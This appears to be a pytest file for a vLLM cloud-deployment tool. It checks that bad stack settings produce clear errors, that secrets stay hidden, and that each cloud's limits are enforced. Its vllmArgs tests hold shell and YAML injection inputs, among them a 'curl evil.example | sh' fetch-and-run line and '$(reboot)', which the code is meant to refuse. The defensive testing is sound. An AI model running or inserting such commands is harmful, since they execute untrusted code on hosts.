"""Bad stack config: one clear error naming the key, the value and what would work; and nothing is created."""

from __future__ import annotations

import json
import re

import pytest

from conftest import run_plan
from fleet import catalog, tool_calling
from fleet.errors import ConfigError
from fleet.spec import parse_spec

BASE = {
    "cloud": "aws",
    "region": "us-east-1",
    "model": "codellama/CodeLlama-7b-Instruct-hf",
    "maxModelLen": "8192",
    "allowedCidrs": '["203.0.113.0/24"]',
}


def parse(secret_keys=(), **changes):
    raw = {**BASE, **{k: (v if isinstance(v, str) else json.dumps(v)) for k, v in changes.items()}}
    raw = {k: v for k, v in raw.items() if v != "null"}
    return parse_spec("case", raw, set(secret_keys))


def error_of(secret_keys=(), **changes) -> ConfigError:
    with pytest.raises(ConfigError) as caught:
        parse(secret_keys, **changes)
    return caught.value


def test_a_good_config_parses_into_an_immutable_spec():
    spec = parse(replicas={"min": 1, "desired": 2, "max": 3}, spot=True, vllmArgs=["--enable-prefix-caching"])
    assert (spec.cloud, spec.region, spec.max_model_len) == ("aws", "us-east-1", 8192)
    assert (spec.replicas.min, spec.replicas.desired, spec.replicas.max) == (1, 2, 3)
    assert spec.served_model_name == "codellama/CodeLlama-7b-Instruct-hf"
    assert spec.vllm_args == ("--enable-prefix-caching",)
    with pytest.raises(AttributeError):
        spec.region = "us-west-2"  # type: ignore[misc]


@pytest.mark.parametrize("changes, key, words", [
    ({"cloud": "digitalocean"}, "cloud", "must be one of aws, azure, gcp"),
    ({"cloud": "null"}, "cloud", "must be one of"),
    ({"region": "us-east-9"}, "region", "must be one of"),
    ({"region": "us-est-1"}, "region", "did you mean us-east-1"),
    ({"accelerator": "A100:2"}, "accelerator", "GPU one of A100-40GB, A100-80GB"),
    ({"accelerator": "A100-80GB:3"}, "accelerator", "count one of (1, 2, 4, 8)"),
    ({"instanceType": "g5.huge"}, "instanceType", "must be one of"),
    ({"accelerator": "L4", "instanceType": "g6.xlarge"}, "instanceType", "either accelerator or instanceType"),
    ({"allowedCidrs": ["10.0.0.0/33"]}, "allowedCidrs", "is not a CIDR"),
    ({"allowedCidrs": ["not-an-ip"]}, "allowedCidrs", "is not a CIDR"),
    ({"allowedCidrs": ["10.1.2.3/8"]}, "allowedCidrs", "host bits set; the network is 10.0.0.0/8"),
    ({"allowedCidrs": []}, "allowedCidrs", "must list who may reach the endpoint"),
    ({"replicas": {"min": 3, "max": 2}}, "replicas.min", "must not exceed replicas.max (2)"),
    ({"replicas": {"min": -1, "max": 2}}, "replicas.min", "whole number from 0 to 100"),
    ({"replicas": {"min": 1, "desired": 5, "max": 2}}, "replicas.desired", "between replicas.min (1) and replicas.max (2)"),
    ({"replicas": {"min": 1, "maximum": 2}}, "replicas", "must be a map {min, desired, max"),
    ({"maxModelLen": "100000"}, "maxModelLen", "from 128 to 16384"),
    ({"dtype": "float8"}, "dtype", "auto, bfloat16, float16"),
    ({"quantization": "int3"}, "quantization", "none, awq, gptq, fp8"),
    ({"quantization": "awq"}, "quantization", "is not an AWQ checkpoint: awq needs a pre-quantized model; fp8"),
    ({"model": "codellama/CodeLlama-34b-Instruct-hf", "quantization": "awq"}, "quantization",
     "e.g. TheBloke/CodeLlama-34B-Instruct-AWQ"),
    ({"model": "TheBloke/CodeLlama-70B-Instruct-AWQ", "maxModelLen": "4096", "quantization": "gptq"}, "quantization",
     "is a awq checkpoint: leave quantization unset or set awq"),
    ({"model": "s3://bucket/finetune"}, "modelParams", "a bucket URI needs its architecture"),
    ({"model": "gs://bucket/finetune", "modelParams": {"like": "codellama/CodeLlama-7b-hf"}}, "model", "starts with s3://"),
    ({"model": "someone/unknown-model"}, "modelParams", "needs its architecture"),
    ({"model": "not a model id"}, "model", "Hugging Face id"),
    ({"modelParams": {"like": "codellama/CodeLlama-7b"}}, "modelParams.like", "did you mean"),
    ({"spot": "sometimes"}, "spot", "true or false"),
    ({"onDemandBase": "1"}, "onDemandBase", "only applies with spot"),
    ({"replica": {"min": 1}}, "replica", "did you mean replicas"),
    ({"gcp": {"project": "x"}}, "gcp", "this stack's cloud is aws"),
    ({"certificate": "arn:aws:acm:us-east-1:123456789012:certificate/abc"}, "domain", "needs the domain"),
    ({"domain": "Not A Domain"}, "domain", "DNS name"),
    ({"dataDiskGb": "10"}, "dataDiskGb", "from 20 to 16384"),
    ({"tags": {"team": "a\nb"}}, "tags.team", "without control characters"),
])
def test_bad_values_name_the_key_value_and_what_works(changes, key, words):
    error = error_of(**changes)
    assert error.key == key
    assert words in str(error)
    assert str(error).startswith(f"config vllm-fleet:{key} = ")


@pytest.mark.parametrize("args", [
    ["--max-num-seqs", "8; curl evil.example | sh"],
    ["--chat-template=$(reboot)"],
    ["--served-model-name=x\nruncmd: [reboot]"],
    ["--x='quoted'"],
    ["--enable-prefix-caching", "`id`"],
    ["--disable-log-requests\"", "x"],
    ["--a=b c"],
    ["--foo=\"}\n- evil"],
])
def test_vllm_args_refuse_shell_and_yaml_injection(args):
    error = error_of(vllmArgs=args)
    assert error.key == "vllmArgs"
    assert "no spaces, quotes, newlines or shell/YAML characters" in str(error)


@pytest.mark.parametrize("flag, owner", [
    ("--api-key=abc", "apiKeys"), ("--config=/tmp/x.yaml", None), ("--revision=main", "modelRevision"),
    ("--tensor-parallel-size=8", "accelerator"), ("--port=9000", None),
    ("--host=127.0.0.1", None), ("--max-model-len=4096", "maxModelLen"),
])
def test_vllm_args_cannot_override_what_the_project_sets(flag, owner):
    error = error_of(vllmArgs=[flag])
    assert "is managed by vllm-fleet" in str(error)
    if owner:
        assert f"set the {owner} key instead" in str(error)


@pytest.mark.parametrize("key", ["apiKey", "hfToken"])
def test_a_secret_in_plain_text_is_refused(key):
    error = error_of(**{key: "hf_plaintexttoken"})
    assert error.key == key
    assert f"pulumi config set --secret {key}" in str(error)
    assert "hf_plaintexttoken" not in str(error)  # the error must not print the secret either
    spec = parse(secret_keys=[key], **{key: "hf_0123456789abcdefghij"})
    assert spec.has_api_key == (key == "apiKey") and spec.has_hf_token == (key == "hfToken")


def test_a_bucket_model_with_its_architecture_serves_under_its_last_path_part():
    spec = parse(model="s3://my-models/ft/codellama-7b-acme", modelParams={"like": "codellama/CodeLlama-7b-hf"})
    assert spec.model_is_bucket and spec.served_model_name == "codellama-7b-acme"
    assert spec.arch.layers == 32


def test_explicit_model_params_size_an_unknown_model():
    spec = parse(model="acme/coder-3b", maxModelLen="4096", modelParams={
        "params_b": 3, "layers": 26, "heads": 24, "kv_heads": 8, "head_dim": 128, "max_len": 8192})
    assert spec.arch.kv_heads == 8 and spec.max_model_len == 4096


def test_an_accelerator_that_cannot_hold_the_model_fails_at_plan_time_with_no_resources(stack_file):
    path = stack_file({**{k: json.loads(v) if v.startswith("[") else v for k, v in BASE.items()},
                       "model": "codellama/CodeLlama-70b-Instruct-hf", "maxModelLen": 4096, "accelerator": "A10G:4"})
    result = run_plan(path)
    assert result.returncode == 2
    assert result.stdout == ""  # no plan, no resources
    assert "config vllm-fleet:accelerator = 'A10G:4': cannot hold codellama/CodeLlama-70b-Instruct-hf" in result.stderr
    assert "Traceback" not in result.stderr


@pytest.mark.parametrize("config, words", [
    ({"vllm-fleet:apiKey": "plain"}, "config vllm-fleet:apiKey = '<plain text>': is a secret"),
    ({"vllm-fleet:allowedCidrs": ["300.1.1.0/24"]}, "config vllm-fleet:allowedCidrs = '300.1.1.0/24': is not a CIDR"),
    ({"vllm-fleet:vllmArgs": ["--max-num-seqs=4;reboot"]}, "config vllm-fleet:vllmArgs = '--max-num-seqs=4;reboot'"),
    ({"vllm-fleet:replicas": {"min": 2, "max": 1}}, "config vllm-fleet:replicas.min = 2: must not exceed"),
])
def test_bad_stack_files_print_one_error_and_no_traceback(stack_file, config, words):
    base = {k: json.loads(v) if v.startswith("[") else v for k, v in BASE.items()}
    result = run_plan(stack_file({**base, **config}), fmt="text")
    assert result.returncode == 2, result.stdout
    assert words in result.stderr
    assert "Traceback" not in result.stderr and "Resources:" not in result.stdout


def test_docs_document_every_config_key():
    from conftest import ROOT
    from fleet.spec import KEY_DOCS

    table = [line for line in (ROOT / "docs" / "config.md").read_text().splitlines() if line.startswith("| `")]
    documented = {line.split("`")[1] for line in table}
    assert set(KEY_DOCS) <= documented, set(KEY_DOCS) - documented


JUNK = [None, 0, -1, 1.5, "x", "", [], ["x"], {}, {"a": 1}, True, [1, 2], {"min": "a"}, "null"]
GOOD = {
    "aws": {"cloud": "aws", "region": "us-east-1"},
    "gcp": {"cloud": "gcp", "region": "us-central1", "gcp": {"project": "my-project-123"}},
    "azure": {"cloud": "azure", "region": "eastus"},
}


@pytest.mark.parametrize("cloud", sorted(GOOD))
def test_no_value_of_any_key_gets_past_config_checking_as_a_crash(cloud):
    """Every key, and every option of the cloud's section, given values of every JSON type: each either plans
    or raises ConfigError, never another exception (which the user would see as a traceback)."""
    import components
    from fleet.sizing import size
    from fleet.spec import KEY_DOCS, SECRET_KEYS

    component = components.load(cloud)
    base = {**GOOD[cloud], "model": "codellama/CodeLlama-7b-Instruct-hf", "maxModelLen": 8192,
            "allowedCidrs": ["10.0.0.0/8"]}
    cases = [{key: junk} for key in set(KEY_DOCS) - set(SECRET_KEYS) for junk in JUNK]
    cases += [{cloud: {**base.get(cloud, {}), option: junk}} for option in component.OPTIONS for junk in JUNK]
    crashes = []
    for case in cases:
        raw = {k: v if isinstance(v, str) else json.dumps(v) for k, v in {**base, **case}.items()}
        try:
            spec = parse_spec("t", raw, set())
            components.load(spec.cloud).parse_options(spec, size(spec))
        except ConfigError:
            pass
        except Exception as error:  # noqa: BLE001 - what the test looks for
            crashes.append(f"{case}: {type(error).__name__}: {error}")
    assert crashes == []


# --- API keys: named, secret, checked without being shown ----------------------------------------------
def test_named_api_keys_and_the_default_one():
    spec = parse(secret_keys=["apiKeys", "apiKey"], apiKeys={"alice": "a" * 32, "ci": "c" * 32}, apiKey="d" * 32)
    assert spec.api_key_names == ("alice", "ci", "default")
    assert parse(secret_keys=["apiKeys"], apiKeys={"alice": "a" * 32}).api_key_names == ("alice",)
    assert parse().api_key_names == ("default",)  # generated


@pytest.mark.parametrize("changes, key, words", [
    ({"apiKeys": {"alice": "short"}}, "apiKeys.alice", "16-512 printable ASCII"),
    ({"apiKeys": {"alice": "-" + "a" * 20}}, "apiKeys.alice", "not starting with -"),
    ({"apiKeys": {"alice": "a b" * 10}}, "apiKeys.alice", "without spaces"),
    ({"apiKeys": {"Alice Smith": "a" * 20}}, "apiKeys", "key names are 1-32 lower-case"),
    ({"apiKeys": {"alice": "a" * 20, "bob": "a" * 20}}, "apiKeys", "each key must be its own"),
    ({"apiKeys": ["a" * 20]}, "apiKeys", "must map names to keys"),
    ({"apiKeys": {"default": "a" * 20}, "apiKey": "b" * 20}, "apiKeys.default", "set one of the two"),
    ({"apiKey": "short"}, "apiKey", "16-512 printable ASCII"),
])
def test_bad_api_keys_are_refused_without_showing_them(changes, key, words):
    error = error_of(secret_keys=list(changes), **changes)
    assert error.key == key and words in str(error)
    named = changes.get("apiKeys")
    for value in [changes.get("apiKey"), *(named.values() if isinstance(named, dict) else [])]:
        assert value is None or value not in str(error)


def test_api_keys_in_plain_text_say_how_to_set_them_as_secrets():
    error = error_of(apiKeys={"alice": "a" * 20})
    assert error.key == "apiKeys" and "pulumi config set --secret --path 'apiKeys.<name>'" in str(error)


# --- model revision --------------------------------------------------------------------------------------
def test_a_model_revision_is_served_and_refused_where_it_cannot_apply():
    assert parse(modelRevision="0bd2d8f1c0e04ec7a2e5b5a9c1e8f0d2b3a4c5d6").model_revision.startswith("0bd2")
    assert error_of(modelRevision="../main").key == "modelRevision"
    error = error_of(model="s3://bucket/ft", modelParams={"like": "codellama/CodeLlama-7b-hf"}, modelRevision="v1")
    assert error.key == "modelRevision" and "bucket" in str(error)


# --- names every cloud accepts, never shared by two stacks ------------------------------------------------
@pytest.mark.parametrize("stack", ["codellama-prod", "starcoder2-15b-us-central1-dev", "2024_Team.Coder",
                                   "a", "x" * 100, "UPPER-case--Stack"])
@pytest.mark.parametrize("limit", [8, 9, 12, 20, 24, 25])
def test_stack_names_become_valid_names_within_any_limit(stack, limit):
    name = parse_spec(stack, {**BASE, "allowedCidrs": '["10.0.0.0/8"]'}, set()).name_within(limit)
    assert len(name) <= limit and re.fullmatch(r"[a-z](-?[a-z0-9])*", name), name


def test_two_stacks_cut_to_the_same_prefix_get_different_names():
    def name(stack, limit):
        return parse_spec(stack, BASE, set()).name_within(limit)

    assert name("starcoder2-15b-us-central1-dev", 25) != name("starcoder2-15b-us-central1-prod", 25)
    assert name("Dev", 24) != name("dev", 24)
    assert name("codellama-prod", 24) == "codellama-prod"  # names that fit stay as they are


# --- issue 9: every value a true answer ------------------------------------------------------------------
@pytest.mark.parametrize("changes, key, words", [
    # were tracebacks
    ({"modelParams": {**dict(params_b=7, layers=32, heads=32, kv_heads=32, head_dim=128, max_len=4096),
                      "quantization": "AWQ"}}, "modelParams.quantization", "did you mean awq"),
    ({"modelParams": {**dict(params_b=7, layers=32, heads=32, kv_heads=32, head_dim=128, max_len=4096),
                      "quantization": "gptq_marlin"}}, "modelParams.quantization", "must be one of awq, gptq, fp8"),
    ({"modelParams": {"like": ["a"]}}, "modelParams.like", "must be a model id"),
    ({"modelParams": {"like": {"x": 1}}}, "modelParams.like", "must be a model id"),
    ({"model": []}, "model", "Hugging Face id"),
    # were accepted, and failed on the VM
    ({"vllmArgs": ["--enable-prefix-cacheing"]}, "vllmArgs", "did you mean --enable-prefix-caching"),
    ({"vllmArgs": ["--max-model-len-foo=3"]}, "vllmArgs", "is not a flag of `vllm serve` in vLLM 0.32.0"),
    ({"vllmArgs": ["--chat-template=/home/me/tool.jinja"]}, "vllmArgs", "names a file on the VM"),
    ({"vllmArgs": ["--max-num-seqs=many"]}, "vllmArgs", "takes a whole number"),
    ({"vllmArgs": ["--kv-cache-dtype=fp9"]}, "vllmArgs", "did you mean fp8"),
    ({"vllmArgs": ["--enable-prefix-caching", "true"]}, "vllmArgs", "takes no value"),
    ({"vllmArgs": ["64"]}, "vllmArgs", "a value without its flag"),
    # were accepted, and wrong
    ({"model": "s3://bucket/models/../secrets", "modelParams": {"like": "codellama/CodeLlama-7b-hf"}}, "model",
     "without . or .. segments"),
    ({"replicas": {"min": 0, "max": 2}}, "replicas.min", "never scaled up again"),
    ({"tags": {"managed-by": "me"}}, "tags.managed-by", "is set by vllm-fleet"),
    ({"tags": {f"t{i}": "x" for i in range(41)}}, "tags", "at most 40"),
    # misleading before
    ({"accelerator": "A100:2"}, "accelerator", "did you mean A100-40GB or A100-80GB"),
    ({"model": "https://huggingface.co/codellama/CodeLlama-7b-hf"}, "model",
     "give the Hugging Face repository id, codellama/CodeLlama-7b-hf"),
    ({"model": "codellama/codellama-7b-instruct-hf"}, "modelParams", "did you mean codellama/CodeLlama-7b-Instruct-hf"),
    ({"quantization": "AWQ"}, "quantization", "did you mean awq"),
])
def test_odd_values_get_one_true_answer(changes, key, words):
    error = error_of(**changes)
    assert error.key == key and words in str(error), str(error)


@pytest.mark.parametrize("changes, check", [
    ({"vllmArgs": ["--max-num-seqs", 64]}, lambda s: s.vllm_args == ("--max-num-seqs=64",)),
    ({"vllmArgs": ["--max-num-seqs", "64", "--enable-prefix-caching"]},
     lambda s: s.vllm_args == ("--max-num-seqs=64", "--enable-prefix-caching")),
    ({"vllmArgs": ['--hf-overrides={"max_position_embeddings": 32768}']},
     lambda s: s.vllm_args == ('--hf-overrides={"max_position_embeddings": 32768}',)),
    ({"maxModelLen": "1e4"}, lambda s: s.max_model_len == 10000),
    ({"maxModelLen": 16384.0}, lambda s: s.max_model_len == 16384),
    ({"modelParams": {"like": "codellama/CodeLlama-7b-hf", "max_len": 32768}, "model": "acme/coder-7b-32k",
      "maxModelLen": "32768"}, lambda s: s.arch.max_len == 32768 and s.arch.layers == 32),
    ({"model": "TheBloke/CodeLlama-70B-Instruct-AWQ", "dtype": "bfloat16", "maxModelLen": "4096"},
     lambda s: s.quantization == "awq" and s.dtype == "bfloat16"),
])
def test_right_values_are_accepted(changes, check):
    assert check(parse(**changes))


def test_a_pre_quantized_checkpoint_leaves_the_kernel_to_vllm_and_fp8_is_asked_for():
    """An AWQ checkpoint says so in its own config: without --quantization vLLM picks its fastest kernel for it."""
    from fleet.serving import serve_argv
    from fleet.sizing import size

    awq = parse(model="TheBloke/CodeLlama-70B-Instruct-AWQ", maxModelLen="4096")
    assert "--quantization" not in serve_argv(awq, size(awq))
    fp8 = parse(quantization="fp8")
    argv = serve_argv(fp8, size(fp8))
    assert argv[argv.index("--quantization") + 1] == "fp8"


def test_a_costly_pick_is_called_out_with_the_cheaper_one():
    from fleet.sizing import cheaper_elsewhere, size

    pinned = parse(instanceType="p5.48xlarge")
    [note] = cheaper_elsewhere(pinned, size(pinned))
    assert "p5.48xlarge at $55.04/hour" in note and "fits g6.xlarge (1x L4) at $0.80/hour in us-east-1" in note
    far = parse_spec("t", {**BASE, "cloud": "gcp", "region": "europe-north1", "spot": "true",
                           "gcp": '{"project": "my-project-123"}'}, set())
    [note] = cheaper_elsewhere(far, size(far))
    gcp = catalog.cloud("gcp")
    g2 = gcp.instance_types["g2-standard-4"]
    cheapest = min((r for r in gcp.regions if r != "europe-north1" and gcp.price(g2, r).regional
                    and not gcp.unavailable(g2, r, spot=True)), key=lambda r: gcp.price(g2, r).usd_per_hour)
    assert "europe-north1 offers" in note
    assert f"in {cheapest} it fits g2-standard-4 (1x L4) at ${gcp.price(g2, cheapest).usd_per_hour:.2f}/hour" in note
    cheap = parse()
    assert cheaper_elsewhere(cheap, size(cheap)) == []


# The cloud's own limits on what the config fills (issue 20 §2): each cloud's parse_options, as the program runs it
# before declaring anything.
CLOUD_BASES = {
    "aws": {"cloud": "aws", "region": "us-east-1"},
    "gcp": {"cloud": "gcp", "region": "us-central1", "gcp": {"project": "my-project-123"}},
    "azure": {"cloud": "azure", "region": "eastus"},
}


def cloud_options(cloud: str, secret_keys=(), **changes):
    import components
    from fleet.sizing import size

    base = {k: v for k, v in CLOUD_BASES[cloud].items() if k not in changes}
    spec = parse(secret_keys, **base, **changes)
    return components.load(cloud).parse_options(spec, size(spec))


def cloud_error(cloud: str, secret_keys=(), **changes) -> ConfigError:
    with pytest.raises(ConfigError) as caught:
        cloud_options(cloud, secret_keys, **changes)
    return caught.value


def named_keys(count: int, length: int) -> dict[str, str]:
    return {f"dev{n:03d}": f"{n:03d}".ljust(length, "k") for n in range(count)}


def fitting(keys: dict[str, str], limit: int) -> int:
    """How many of the keys (by name) the program's secret holds within `limit` bytes."""
    items = sorted(keys.items())
    return max(n for n in range(len(items) + 1) if len(json.dumps(dict(items[:n]), sort_keys=True)) <= limit)


@pytest.mark.parametrize("cloud, store, limit", [("aws", "Secrets Manager", 65_536), ("gcp", "Secret Manager", 65_536),
                                                 ("azure", "Key Vault", 25_000)])
def test_a_key_set_over_the_secret_store_limit_is_refused_with_the_count_that_fits(cloud, store, limit):
    keys = named_keys(200, 512)  # ~104 KB: over every store's limit
    error = cloud_error(cloud, ["apiKeys"], apiKeys=keys)
    assert error.key == "apiKeys" and error.value == "200 keys"
    assert f"one {store} secret, which holds at most {limit:,} bytes" in str(error)
    assert f"{fitting(keys, limit)} of them fit" in str(error) and 0 < fitting(keys, limit) < 200
    assert "kkkk" not in str(error)  # never a key


def test_a_key_set_within_the_limit_plans_on_every_cloud_but_key_vault_is_smallest():
    keys = named_keys(60, 512)  # ~32 KB: within 64 KiB, over Key Vault's 25 KB
    assert fitting(keys, 25_000) < 60 == fitting(keys, 65_536)
    cloud_options("aws", ["apiKeys"], apiKeys=keys)
    cloud_options("gcp", ["apiKeys"], apiKeys=keys)
    assert cloud_error("azure", ["apiKeys"], apiKeys=keys).key == "apiKeys"


@pytest.mark.parametrize("cloud, tags", [
    ("aws", {"k" * 128: "v" * 256}),  # AWS: keys of 128 characters, values of 256
    ("aws", {"équipe": "plateforme données", "Team": "a+b=c@d:e/f"}),  # Unicode letters, spaces
    ("azure", {"Cost Center": "a;b,c#d"}),  # Azure forbids only < > % & \ ? / in names
    ("azure", {"k" * 128: "v" * 256}),
    ("gcp", {"équipe": "données-2"}),  # GCP: international lowercase letters
])
def test_tags_each_cloud_takes(cloud, tags):
    cloud_options(cloud, tags=tags)


@pytest.mark.parametrize("cloud, tags, words", [
    ("aws", {"k" * 129: "v"}, "at most 128 characters"),
    ("aws", {"team": "a;b"}, "letters, digits, spaces and _ . : / = + - @"),
    ("aws", {"AWS:team": "x"}, "AWS's own"),
    ("azure", {"team/x": "x"}, "may not hold < > % & \\ ? /"),
    ("azure", {"k" * 129: "v"}, "at most 128 characters"),
    ("azure", {"Microsoft.owner": "x"}, "starting with microsoft, azure, windows"),
    ("azure", {"Team": "a", "team": "b"}, "ignore case: Team is the same tag"),
    ("gcp", {"Team": "x"}, "lowercase letters, digits, _ and -"),
    ("gcp", {"team": "a" * 64}, "at most 63"),
])
def test_tags_each_cloud_refuses(cloud, tags, words):
    error = cloud_error(cloud, tags=tags)
    assert error.key.startswith("tags.") and words in str(error), str(error)


def test_cidrs_as_each_cloud_takes_them():
    assert cloud_options("gcp", gcp={"project": "my-project-123", "subnetCidr": "100.64.0.0/16"}).subnet_cidr \
        == "100.64.0.0/16"  # shared address space: a valid GCP subnet range
    assert cloud_error("gcp", gcp={"project": "my-project-123", "subnetCidr": "fd00::/16"}).key == "gcp.subnetCidr"
    assert cloud_error("gcp", gcp={"project": "my-project-123", "subnetCidr": "8.8.0.0/16"}).key == "gcp.subnetCidr"
    assert cloud_error("aws", aws={"vpcCidr": "fd00::/16"}).key == "aws.vpcCidr"  # the VPC is IPv4
    assert cloud_error("azure", azure={"vnetCidr": "fd00::/16"}).key == "azure.vnetCidr"
    error = error_of(allowedCidrs=["203.0.113.0/24", "198.51.100.0/24", "203.0.113.0/24"])
    assert (error.key, error.value) == ("allowedCidrs", "203.0.113.0/24") and "listed twice" in str(error)


def test_a_punycode_top_level_domain_is_a_domain():
    assert parse(domain="code.xn--p1ai", dnsZone="Z0123456789ABC").domain == "code.xn--p1ai"
    assert parse(domain="xn--80ak6aa92e.xn--e1a4c").domain == "xn--80ak6aa92e.xn--e1a4c"
    assert error_of(domain="code.xn--").key == "domain"


def test_vllm_args_that_would_overflow_the_user_data_are_a_config_error():
    error = error_of(vllmArgs=["--hf-overrides=" + json.dumps({"x": "y" * 4100})])
    assert (error.key, error.value) == ("vllmArgs", "4124 characters") and "at most 4096 characters" in str(error)


def test_the_longest_vllm_args_fit_the_smallest_user_data_limit(tmp_path):
    """EC2's 16 KB of compressed user-data is the smallest limit (Azure 64 KB compressed, GCP 256 KiB plain): the
    longest vllmArgs the spec takes, of random text that compresses worst, still plan on AWS, for a model whose
    tool-calling flags (fleet/tool_calling.py) are the longest the catalog adds."""
    import gzip
    import random

    from components.aws.fleet import USER_DATA_MAX_BYTES
    from components.azure.fleet import CUSTOM_DATA_MAX_BYTES

    assert USER_DATA_MAX_BYTES < CUSTOM_DATA_MAX_BYTES
    alphabet = [chr(c) for c in range(32, 127) if chr(c) not in '"\\']
    text = "".join(random.Random(20).choice(alphabet) for _ in range(4096 - len('--hf-overrides={"x": ""}')))
    model = max(tool_calling.entries(), key=lambda model: len(" ".join(tool_calling.resolve(model, ()).argv)))
    config = {"cloud": "aws", "region": "us-east-1", "model": model,
              "allowedCidrs": ["203.0.113.0/24"], "vllmArgs": ["--hf-overrides=" + json.dumps({"x": text})],
              "officeHours": {"timezone": "America/New_York", "days": "Mon-Fri", "start": "08:00", "end": "19:00"}}
    assert len(config["vllmArgs"][0]) == 4096
    path = tmp_path / "Pulumi.longest.yaml"
    path.write_text(json.dumps({"config": {f"vllm-fleet:{k}": v for k, v in config.items()}}))  # JSON is YAML
    result = run_plan(path)
    assert result.returncode == 0, result.stderr
    user_data = json.loads(result.stdout)["userData"]
    assert text[:200] in user_data
    assert len(gzip.compress(user_data.encode(), mtime=0)) <= USER_DATA_MAX_BYTES - 1024  # with room to grow
